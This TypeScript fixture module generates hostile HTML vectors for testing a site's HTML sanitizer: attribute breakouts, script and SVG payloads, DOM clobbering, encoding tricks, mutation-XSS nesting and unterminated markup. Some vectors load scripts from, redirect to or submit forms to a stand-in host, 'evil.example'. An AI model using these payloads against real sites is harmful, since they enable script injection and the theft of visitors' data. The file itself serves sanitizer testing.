/** Returns the next script for a vector of hostile-html.ts. */
export type Run = () => string;

/** A site that nothing may contact, and the name that scripts call to be detected. */
export const FOREIGN_HOST = "evil.example";
export const SENTINEL = "hostileRan";

/** Vectors that break out of allowed values. */
export function breakouts(run: Run): string[] {
  const picture = "/pictures/0123456789abcdef0123456789abcdef-640.jpg";
  const places = [
    (value: string) => `<img src="${picture}" alt="${value}">`,
    (value: string) =>
      `<img src='${picture}' alt='${value}' srcset='${picture} 640w, ${value}' sizes='${value}'>`,
    (value: string) => `<img src=${picture} alt=${value} width=${value}>`,
    (value: string) => `<a href="https://a.example/${value}">x</a>`,
    (value: string) =>
      `<p class="prose-file"><a href="/documents/${"0f".repeat(16)}/a${value}.pdf" class="${value}">x</a></p>`,
    (value: string) => `<p class="prose-related"><a href="/blog/a${value}">x</a></p>`,
    (value: string) => `<a href='/events?${value}' rel='${value}'>x</a>`,
    (value: string) => `<a href="mailto:${value}">x</a>`,
    (value: string) => `<ol start="1${value}"><li>x</ol>`,
    (value: string) => `<td colspan="2${value}">x</td>`,
    (value: string) => `<mark style="background-color:#fff3a3${value}">x</mark>`,
    (value: string) => `<p style="text-align:left${value}">x</p>`,
    (value: string) => `<aside class="prose-note${value}">x</aside><aside class='${value}'>x</aside>`,
    (value: string) => `<p class="prose-button${value}"><a href="/events${value}" class="${value}">x</a></p>`,
    (value: string) =>
      `<figure class="prose-wide ${value} prose-square"><img src="${picture}" alt="${value}"></figure>`,
    (value: string) =>
      `<div class="prose-gallery${value}"><figure><img src="${picture}" alt="${value}"></figure></div>`,
    (value: string) =>
      `<figure class="prose-awaited" data-upload="${value}" data-alt="${value}"><p>${value}</p></figure>`,
    (value: string) =>
      `<figure class="prose-video"><figcaption><a href="https://youtu.be/abcdefghij-${value}">${value}</a></figcaption></figure>`,
    (value: string) =>
      `<figure class="prose-video"><a data-player="${value}" href="https://vimeo.com/76979871?${value}">x</a></figure>`,
    (value: string) =>
      `<figure><img src="${picture}${value}"><figcaption title="${value}">${value}</figcaption></figure>`,
  ];
  const values = [
    ...[
      '" onerror=alert(1) x="',
      "' onerror=alert(1) x='",
      "` onerror=alert(1) x=`",
      "&quot; onerror=alert(1) x=&quot;",
    ],
    ...[
      "><img src=x onerror=alert(1)>",
      '"><script>alert(1)</script>',
      "'><svg onload=alert(1)>",
      "&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    ],
    ...[
      '\u0000" onload=alert(1) ',
      '\\" onerror=alert(1) //',
      "</p><script>alert(1)</script>",
      "]]><script>alert(1)</script>",
    ],
  ];
  return places.flatMap((place) => values.map((value) => place(value.replace("alert(1)", run()))));
}

/** Whole elements that run or load something, navigate, or shadow names that scripts rely on. */
export function elements(run: Run): string[] {
  return [
    ...[
      "script",
      "SCRIPT",
      "script/x",
      "script type=module",
      "scr\u0000ipt",
      "svg:script",
      "script src=data:,alert(1)",
    ].map((tag) => `<${tag}>${run()}</${tag.split(/[ /]/)[0]}>`),
    `<script src=//${FOREIGN_HOST}/x.js></script>`,
    `<svg><script>${run()}</script></svg>`,
    `<svg><script href="data:,${run()}"/></svg>`,
    `<svg><animate onbegin=${run()} attributeName=x dur=1s></svg>`,
    `<svg><a><animate attributeName=href values=javascript:${run()} /><text x=20 y=20>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=alert(1) /></svg>#x" /></svg>`,
    `<svg><set attributeName=onmouseover to=${run()}><foreignObject><iframe srcdoc="<script>${run()}</script>"></iframe></foreignObject></svg>`,
    `<math><maction actiontype=statusline xlink:href=javascript:${run()}>x</maction></math>`,
    `<iframe srcdoc="&lt;script&gt;parent.${SENTINEL}=1&lt;/script&gt;"></iframe>`,
    `<iframe src="/admin/blog" onload=${run()}></iframe>`,
    `<object data="data:text/html,<script>${run().replaceAll('"', "'")}</script>"></object>`,
    `<embed src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="top.${SENTINEL}=1"/>`).toString("base64")}">`,
    `<meta http-equiv=refresh content="0;url=//${FOREIGN_HOST}/">`,
    `<base href=//${FOREIGN_HOST}/><img src=x><script src=a.js></script>`,
    `<form action=//${FOREIGN_HOST}/><input name=a value=b autofocus onfocus=this.form.submit()></form>`,
    `<form id=x></form><button form=x formaction=javascript:${run()}>x</button>`,
    `<video autoplay><source src=x onerror=${run()}></video>`,
    `<audio src=x onerror=${run()} autoplay></audio>`,
    `<picture><source srcset=//${FOREIGN_HOST}/a.png><img src=x onerror=${run()}></picture>`,
    `<template shadowrootmode=open><script>${run()}</script><img src=x onerror=${run()}></template>`,
    `<dialog open onclose=${run()}><form method=dialog><button autofocus>x</button></form></dialog>`,
    `<button popovertarget=x>x</button><xss popover id=x onbeforetoggle=${run()}>y</xss>`,
    `<link rel=prefetch href=//${FOREIGN_HOST}/p><link rel=dns-prefetch href=//${FOREIGN_HOST}>`,
    `<applet code=x archive=//${FOREIGN_HOST}/x.jar></applet><param name=url value=javascript:${run()}>`,
    `<isindex action=javascript:${run()} type=submit value=x><keygen autofocus onfocus=${run()}>`,
    `<frameset onload=${run()}><frame src=javascript:${run()}></frameset>`,
    ...["attributes", "children", "innerHTML", "nodeName", "parentNode", "__proto__", "constructor"].map(
      (name) =>
        `<form onclick=${run()}><input name=${name}><input id=${name} name=removeAttribute></form><a id=${name} name=${name}>x</a>`,
    ),
    ...[
      "getElementById",
      "querySelector",
      "cookie",
      "body",
      "head",
      "__reactRouterContext",
      "webpackChunk",
    ].map((name) => `<img name=${name}><form name=${name} id=${name}></form><iframe name=${name}></iframe>`),
  ];
}

/** Characters, encodings and nesting that a parser may misread. */
export function odd(run: Run): string[] {
  return [
    ...["\u00a0", "\u2028", "\ufeff", "\u0000", "\u001b(J", "\u202e", "\ud800", "%00", "+ADw-"].map(
      (sign) => `<${sign}img src=x onerror=${run()}><img${sign}src=x${sign}onerror=${run()}>`,
    ),
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{constructor.constructor('alert(1)')()}}$\u007balert(1)}<%= alert(1) %>#{alert(1)}",
    "</script><script>alert(1)</script>",
    "';alert(1)//\";alert(1)//\\';alert(1)//--></script>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    ...[30, 60, 200].map((depth) => `${"<blockquote>".repeat(depth)}<img src=x onerror=${run()}>`),
    ...[50, 300].map((depth) => `${"<svg><g>".repeat(depth)}<script>${run()}</script>`),
    ...[50, 300].map(
      (depth) => `${"<b><i>".repeat(depth)}<style><!--</style><img src=x onerror=${run()}>-->`,
    ),
  ];
}

/** Markup that is parsed differently the second time. */
export function mutations(run: Run): string[] {
  const outer = [
    "svg",
    "math",
    "table",
    "select",
    "template",
    "noscript",
    "form",
    "p",
    "math><mtext",
    "svg><foreignObject",
    "math><annotation-xml encoding=text/html",
  ];
  const raw = [
    "style",
    "title",
    "textarea",
    "xmp",
    "noembed",
    "noframes",
    "iframe",
    "noscript",
    "plaintext",
    "script",
    "mglyph",
    "desc",
  ];
  return outer.flatMap((around) =>
    raw.flatMap((inner) => [
      `<${around}><${inner}><!--</${inner}><img src=x onerror=${run()}>--></${inner}>`,
      `<${around}><${inner}><a title="</${inner}><img src=x onerror=${run()}>">x</a>`,
      `<${around}><mi><table><${inner}><mglyph><style><![CDATA[</style><img src=x onerror=${run()}>]]>`,
    ]),
  );
}

/** Markup that never ends, or ends twice. */
export function unfinished(run: Run): string[] {
  const openings = [
    ...[
      "<!--",
      "<!-->",
      "<!--->",
      "<![CDATA[",
      "<?xml ",
      "<!DOCTYPE x [",
      "<!x",
      "</",
      "<",
      '<a href="',
      "<img alt='",
      '<p style="x',
    ],
    ...[
      "<script>",
      "<style>",
      "<textarea>",
      "<title>",
      "<xmp>",
      "<plaintext>",
      "<noscript>",
      "<template>",
      "<iframe>",
      "<select><option>",
    ],
  ];
  return openings.flatMap((opening) => [
    `${opening}<img src=x onerror=${run()}>`,
    `${opening}--><img src=x onerror=${run()}>`,
    `${opening}"'>]]>?><svg onload=${run()}>`,
    `x${opening}\n\n<p onclick=${run()}>y`,
  ]);
}
